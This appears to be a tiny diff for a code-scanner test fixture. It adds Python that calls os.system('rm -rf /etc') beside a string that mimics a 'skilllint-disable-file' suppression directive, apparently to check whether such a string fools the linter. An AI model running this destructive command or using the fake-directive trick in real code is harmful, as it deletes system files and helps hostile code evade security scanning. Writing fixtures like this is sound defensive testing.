@@ -1,0 +1,3 @@
+import os
+shown = "# skilllint-disable-file"
+os.system("rm -rf /etc")
